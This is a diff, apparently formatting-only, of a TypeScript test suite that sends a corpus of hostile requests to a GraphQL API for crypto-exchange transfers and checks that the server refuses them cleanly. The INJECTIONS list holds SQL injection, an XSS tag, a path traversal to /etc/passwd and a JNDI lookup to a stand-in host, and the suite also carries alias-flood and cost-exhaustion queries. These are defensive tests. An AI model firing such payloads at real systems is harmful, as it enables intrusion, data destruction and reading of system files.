@@ -20,7 +20,7 @@ interface Case {
 
 const INJECTIONS = [
   "' OR '1'='1",
-  "\"; DROP TABLE transfers; --",
+  '"; DROP TABLE transfers; --',
   "<script>alert(1)</script>",
   "../../../../etc/passwd",
   "${jndi:ldap://evil.test/a}",
@@ -58,7 +58,7 @@ function buildCorpus(): Case[] {
     '{"query": "\\x41"}',
     '{"query": "{ connections { id } }", }',
     "\uFEFF{]",
-    "{\"query\": \"\\ud800\"",
+    '{"query": "\\ud800"',
     "{{{{{{{{{{",
     "}",
     "1e99999",
@@ -75,7 +75,7 @@ function buildCorpus(): Case[] {
   // Wrong or missing content types (CSRF prevention, no body parser).
   add("text/plain body", '{"query":"{ connections { id } }"}', { headers: { "content-type": "text/plain" } });
   add("form body", "query=%7B+connections+%7B+id+%7D+%7D", { headers: { "content-type": "application/x-www-form-urlencoded" } });
-  add("multipart body", "--x\r\nContent-Disposition: form-data; name=\"query\"\r\n\r\n{ connections { id } }\r\n--x--", {
+  add("multipart body", '--x\r\nContent-Disposition: form-data; name="query"\r\n\r\n{ connections { id } }\r\n--x--', {
     headers: { "content-type": "multipart/form-data; boundary=x" },
   });
   add("xml body", "<query>{ connections { id } }</query>", { headers: { "content-type": "application/xml" } });
@@ -145,12 +145,23 @@ function buildCorpus(): Case[] {
   add("self-spreading fragment", gql("{ accounts { ...A } } fragment A on Account { margin { account { ...A } } }"));
 
   // Wide and expensive queries (cost budget).
-  add("wide: 40 × every root read", gql(`{ ${Array.from({ length: 40 }, () => "portfolio { assets { asset } } marginAccounts { accountId } accounts { id balances { asset } }").join(" ")} }`));
-  add("wide: 9 aliased dashboards", gql(`{ ${Array.from({ length: 9 }, (_, i) => `p${i}: portfolio { assets { asset total net } } m${i}: marginAccounts { accountId margin: marginBalance }`).join(" ")} }`));
+  add(
+    "wide: 40 × every root read",
+    gql(`{ ${Array.from({ length: 40 }, () => "portfolio { assets { asset } } marginAccounts { accountId } accounts { id balances { asset } }").join(" ")} }`),
+  );
+  add(
+    "wide: 9 aliased dashboards",
+    gql(`{ ${Array.from({ length: 9 }, (_, i) => `p${i}: portfolio { assets { asset total net } } m${i}: marginAccounts { accountId margin: marginBalance }`).join(" ")} }`),
+  );
   add("wide: 1200 plain fields", gql(`{ connections { ${Array.from({ length: 400 }, () => "id label exchange").join(" ")} } }`));
   add("wide: fragment fan-out", gql(`{ accounts { ...A ...A ...A } } fragment A on Account { ${"balances { asset total } margin { accountId } ".repeat(30)} }`));
   add("wide: many transfer histories", gql(`{ ${Array.from({ length: 10 }, (_, i) => `t${i}: transfers { edges { cursor } }`).join(" ")} }`));
-  add("wide: many mutations", gql(`mutation { ${Array.from({ length: 10 }, (_, i) => `m${i}: transfer(input: {connectionId: "binance-sandbox", asset: "USDT", amount: "1", from: {type: SPOT}, to: {type: FUNDING}, idempotencyKey: "w${i}"}) { replayed }`).join(" ")} }`));
+  add(
+    "wide: many mutations",
+    gql(
+      `mutation { ${Array.from({ length: 10 }, (_, i) => `m${i}: transfer(input: {connectionId: "binance-sandbox", asset: "USDT", amount: "1", from: {type: SPOT}, to: {type: FUNDING}, idempotencyKey: "w${i}"}) { replayed }`).join(" ")} }`,
+    ),
+  );
 
   // Alias floods.
   for (const n of [11, 15, 20, 50, 100, 500, 1000]) {
@@ -162,14 +173,31 @@ function buildCorpus(): Case[] {
   for (const amount of ["1e5", "NaN", "Infinity", "-Infinity", "0x10", " 1", "1 ", "", "1.2.3", "+-1", "1,5", "٣", "1_000", "0b1", 1.5, 1, true, null, [], {}]) {
     add(`bad Decimal ${JSON.stringify(amount)}`, gql(TRANSFER, { input: { ...baseInput, amount } }));
   }
-  for (const since of ["yesterday", "2026-13-01T00:00:00Z", "2026-02-30T00:00:00.000Z", "2026-04-31T00:00:00Z", "2026-01-01T24:00:00Z", 1700000000000, "", "0000-00-00", true, {}, ["2026-01-01T00:00:00Z"]]) {
+  for (const since of [
+    "yesterday",
+    "2026-13-01T00:00:00Z",
+    "2026-02-30T00:00:00.000Z",
+    "2026-04-31T00:00:00Z",
+    "2026-01-01T24:00:00Z",
+    1700000000000,
+    "",
+    "0000-00-00",
+    true,
+    {},
+    ["2026-01-01T00:00:00Z"],
+  ]) {
     add(`bad DateTime ${JSON.stringify(since)}`, gql("query Q($f: TransferFilter) { transfers(filter: $f) { edges { cursor } } }", { f: { since } }));
   }
   for (const first of ["10", 1.5, 2 ** 40, -1, 0, 100000, true, "1e3"]) {
     add(`bad first ${JSON.stringify(first)}`, gql("query Q($n: Int) { transfers(first: $n) { edges { cursor } } }", { n: first }));
   }
-  for (const literal of ['amount: 1.5', 'amount: 1', "amount: true", 'amount: "1e3"', "amount: null"]) {
-    add(`bad literal ${literal}`, gql(`mutation { transfer(input: {connectionId: "binance-sandbox", asset: "USDT", ${literal}, from: {type: SPOT}, to: {type: FUNDING}, idempotencyKey: "lit"}) { replayed } }`));
+  for (const literal of ["amount: 1.5", "amount: 1", "amount: true", 'amount: "1e3"', "amount: null"]) {
+    add(
+      `bad literal ${literal}`,
+      gql(
+        `mutation { transfer(input: {connectionId: "binance-sandbox", asset: "USDT", ${literal}, from: {type: SPOT}, to: {type: FUNDING}, idempotencyKey: "lit"}) { replayed } }`,
+      ),
+    );
   }
 
   // Wrong types and missing or unknown arguments.
@@ -199,7 +227,7 @@ function buildCorpus(): Case[] {
     "{ connections(types: [SPOT]) { id } }",
     '{ transfers(first: "ten") { edges { cursor } } }',
     "{ transfer(id: [1]) { id } }",
-    "{ accounts { balances(includeZero: \"yes\") { asset } } }",
+    '{ accounts { balances(includeZero: "yes") { asset } } }',
     "query Q($x: Int) { account(id: $x) { id } }",
     "query Q($x: NoSuchType) { connections { id } }",
     "query Q($x: ID!) { connections { id } }",
@@ -223,10 +251,10 @@ function buildCorpus(): Case[] {
     "{ accounts { balances { asset price } } }",
     "{ transfers { nodes { id } } }",
     "{ portfolio { assets { asset usdValue } } }",
-    "{ connection(id: \"binance-sandbox\") { id } }",
+    '{ connection(id: "binance-sandbox") { id } }',
     "{ accounts @skip { id } }",
     "{ accounts @nonsense { id } }",
-    "{ connections { id @include(if: \"yes\") } }",
+    '{ connections { id @include(if: "yes") } }',
   ].entries()) {
     add(`unknown field #${i}`, gql(q));
   }
@@ -242,7 +270,11 @@ function buildCorpus(): Case[] {
   // Injection strings in every string argument.
   for (const [i, s] of INJECTIONS.entries()) {
     add(`inject account(id) #${i}`, gql("query Q($id: ID!) { account(id: $id) { id balances { asset } } }", { id: s }), { mayAnswer: true });
-    add(`inject balances(assets) #${i}`, gql("query Q($a: [String!]) { accounts(filter: { exchanges: [BINANCE], types: [SPOT] }) { balances(assets: $a) { asset } } }", { a: [s] }), { mayAnswer: true });
+    add(
+      `inject balances(assets) #${i}`,
+      gql("query Q($a: [String!]) { accounts(filter: { exchanges: [BINANCE], types: [SPOT] }) { balances(assets: $a) { asset } } }", { a: [s] }),
+      { mayAnswer: true },
+    );
     add(`inject accounts(connectionIds) #${i}`, gql("query Q($c: [ID!]) { accounts(filter: { connectionIds: $c }) { id } }", { c: [s] }), { mayAnswer: true });
     add(`inject transferRoutes(connectionId) #${i}`, gql("query Q($c: ID!) { transferRoutes(connectionId: $c) { fromNeedsSymbol } }", { c: s }));
     add(`inject transfer(id) #${i}`, gql("query Q($id: ID!) { transfer(id: $id) { id } }", { id: s }), { mayAnswer: true });
@@ -307,9 +339,7 @@ describe("a corpus of hostile requests", () => {
         if (typeof code !== "string" || !DOCUMENTED_CODES.includes(code) || code === "INTERNAL_SERVER_ERROR") {
           problems.push(`${c.name}: code ${String(code)}: ${error.message.slice(0, 200)}`);
         }
-        const extra = Object.keys(error.extensions ?? {}).filter(
-          (k) => !["code", "connectionId", "exchangeCode", "exchangeMessage", "retryAfterSeconds"].includes(k),
-        );
+        const extra = Object.keys(error.extensions ?? {}).filter((k) => !["code", "connectionId", "exchangeCode", "exchangeMessage", "retryAfterSeconds"].includes(k));
         if (extra.length > 0) problems.push(`${c.name}: undocumented extensions ${extra.join(", ")}`);
       }
       const refused = response.status >= 400 || (errors?.length ?? 0) > 0;
@@ -340,10 +370,7 @@ describe("a corpus of hostile requests", () => {
     const aliases = await env.post({ query: `{ ${Array.from({ length: 20 }, (_, i) => `a${i}: __typename`).join(" ")} }` }, auth);
     expect(aliases.status).toBe(400);
     expect(aliases.json?.errors?.[0].message).toMatch(/aliases/i);
-    const costly = await env.post(
-      { query: `{ ${Array.from({ length: 10 }, (_, i) => `t${i}: transfers { edges { cursor } }`).join(" ")} }` },
-      auth,
-    );
+    const costly = await env.post({ query: `{ ${Array.from({ length: 10 }, (_, i) => `t${i}: transfers { edges { cursor } }`).join(" ")} }` }, auth);
     expect(costly.status).toBe(400);
     expect(costly.json?.errors?.[0].extensions?.code).toBe("BAD_USER_INPUT");
     expect(costly.json?.errors?.[0].message).toMatch(/too expensive: it costs \d+ and the limit is 500/);
